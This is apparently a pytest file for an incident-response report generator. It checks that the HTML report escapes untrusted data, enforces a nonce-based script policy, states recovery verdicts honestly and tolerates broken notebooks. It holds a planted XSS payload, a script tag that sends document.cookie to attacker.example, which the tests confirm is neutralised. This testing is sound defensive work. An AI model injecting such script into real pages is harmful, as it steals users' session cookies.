"""`report.html`: one page a reviewer opens offline, the summary first; whatever the failing systems wrote into
the data is shown as text, and only the page's own scripts may run."""

from __future__ import annotations

import json
import os
import re
from pathlib import Path

import nbformat
import pytest

from irkit.evidence.report import PLOTLY_MIME, render_section, write_report
from irkit.evidence.summary import Summary

PLANTED = "<script>fetch('https://attacker.example/'+document.cookie)</script>"


FINDINGS = [{"kind": "lock-root", "subject": "pid 7", "detail": f"idle in transaction: {PLANTED}"},
            {"kind": "error-spike", "subject": "backend", "detail": "12% fail"}]
PLAN = [{"action": "terminate-backend", "target": "pid 7", "command": "SELECT pg_terminate_backend(7);",
         "status": "planned"}]
NOT_RECOVERED = {"recovered": False, "failed": ["no lock waits: 1 waiting session(s)"]}


def _run(tmp_path: Path, recovery: object = NOT_RECOVERED) -> Path:
    """A run of incident INC-9 whose phases recorded the findings, the plan and (phase 4) ``recovery``."""
    run = tmp_path / "INC-9" / "20261130T000000Z"
    run.mkdir(parents=True)
    for phase, records in ((2, {"findings": FINDINGS}), (3, {"mitigations": PLAN}),
                           *(((4, {"verdict": recovery}),) if recovery is not None else ())):
        (run / f"phase-{phase}.json").write_text(json.dumps({"phase": phase, "records": records}))
    return run


def _summary(**changes: object) -> Summary:
    data: dict[str, object] = {
        "incident": "INC-9", "run_id": "20261130T000000Z",
        "phases": [{"phase": 1, "name": "01-detect-and-assess", "notebook": "x", "status": "ok"},
                   {"phase": 2, "name": "02-investigate", "notebook": "y", "status": "failed", "error": "boom"}],
    }
    data.update(changes)
    return Summary.from_dict(data)


def test_planted_markup_is_shown_as_text_and_only_the_pages_own_scripts_may_run(tmp_path: Path):
    page = write_report(_run(tmp_path), _summary(), [], nonce="n0nce").read_text()
    assert PLANTED not in page and "&lt;script&gt;fetch(" in page
    assert "script-src 'nonce-n0nce'" in page and "default-src 'none'" in page
    scripts = re.findall(r"<script\b[^>]*>", page)
    assert scripts and all("n0nce" in tag and " src=" not in tag for tag in scripts)


def test_the_summary_comes_first_with_the_cause_the_plan_and_the_verdict(tmp_path: Path):
    page = write_report(_run(tmp_path), _summary(), []).read_text()
    summary = page.split("<section class='summary' id='summary'>", 1)[1].split("</section>", 1)[0]
    assert "<dt>Cause</dt><dd>lock-root pid 7: idle in transaction" in summary  # the first finding, not a symptom
    assert "terminate-backend pid 7 (planned): <code>SELECT pg_terminate_backend(7);</code>" in summary
    assert "NOT RECOVERED: no lock waits: 1 waiting session(s)" in summary
    assert "<td class='status-failed'>failed</td>" in page and "<td>boom</td>" in page


@pytest.mark.parametrize(("recovery", "said"), [
    (None, "not validated (phase 4 has not run)"),
    ({"recovered": True}, "RECOVERED: every check passed"),
    ({"recovered": None, "unmeasured": ["p95 latency: Prometheus did not answer"]},
     "UNKNOWN: not measured: p95 latency: Prometheus did not answer"),
])
def test_the_verdict_never_reads_recovered_unless_phase_4_measured_it(tmp_path: Path, recovery: object, said: str):
    page = write_report(_run(tmp_path, recovery), _summary(), []).read_text()
    assert f">{said}</dd>" in page


def test_a_missing_notebook_or_a_planted_fifo_is_no_section_and_blocks_nothing(tmp_path: Path):
    assert render_section(tmp_path / "02-investigate.ipynb", "n") is None
    os.mkfifo(tmp_path / "03-mitigate.ipynb")
    assert render_section(tmp_path / "03-mitigate.ipynb", "n") is None


def test_a_notebook_cut_short_still_has_its_section_saying_so(tmp_path: Path):
    path = tmp_path / "02-investigate.ipynb"
    path.write_text('{"cells": [{"cell_type": "code", "sour')
    section = render_section(path, "n")
    assert section is not None and "this notebook could not be rendered" in section.html


def test_a_chart_is_redrawn_from_its_data_and_the_html_the_notebook_carried_is_dropped(tmp_path: Path):
    notebook = nbformat.v4.new_notebook()
    cell = nbformat.v4.new_code_cell("chart")
    spec = {"data": [{"type": "scatter", "x": [1, 2], "y": [0.1, 0.2]}], "layout": {"height": 300}}
    cell.outputs = [nbformat.v4.new_output("display_data", data={
        PLOTLY_MIME: spec, "text/html": f'<div data-chart="error-ratio"></div>{PLANTED}', "text/plain": "chart"})]
    notebook.cells = [cell]
    path = tmp_path / "01-detect-and-assess.ipynb"
    path.write_text(json.dumps(notebook))
    section = render_section(path, "n0nce")
    assert section is not None and section.anchor == "phase-01-detect-and-assess"
    assert 'data-chart="error-ratio"' in section.html and '<script nonce="n0nce">' in section.html
    assert "attacker.example" not in section.html
